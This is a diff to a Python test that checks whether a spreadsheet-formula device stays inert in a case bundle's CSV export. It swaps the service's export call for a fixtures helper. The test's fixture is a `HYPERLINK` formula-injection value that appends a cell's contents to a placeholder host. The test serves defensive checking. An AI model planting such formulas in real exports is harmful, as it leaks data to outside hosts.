@@ -17,6 +17,7 @@ from storage.bootstrap import Services
 from storage.database import make_engine, migrate
 from storage.local_store import LocalStore
 from storage.unit_of_work import SqlRepository
+from tests.fixtures.bundles import export_as
 
 FORMULA = '=HYPERLINK("https://example.invalid/?"&A2,"Open exhibit")'
 URN = "01YZ1234524"
@@ -57,7 +58,7 @@ def test_a_formula_device_is_inert_in_the_csv_and_kept_in_json_and_custody(
     case_service.create_case(services, URN, desk)
     case_service.link_items(services, URN, [item.id], desk)
 
-    bundle = case_service.export_case_bundle(services, URN, tmp_path / "out", desk)
+    bundle = export_as(services, URN, tmp_path / "out", desk)
     engine.dispose()
 
     assert verify_bundle(bundle).ok
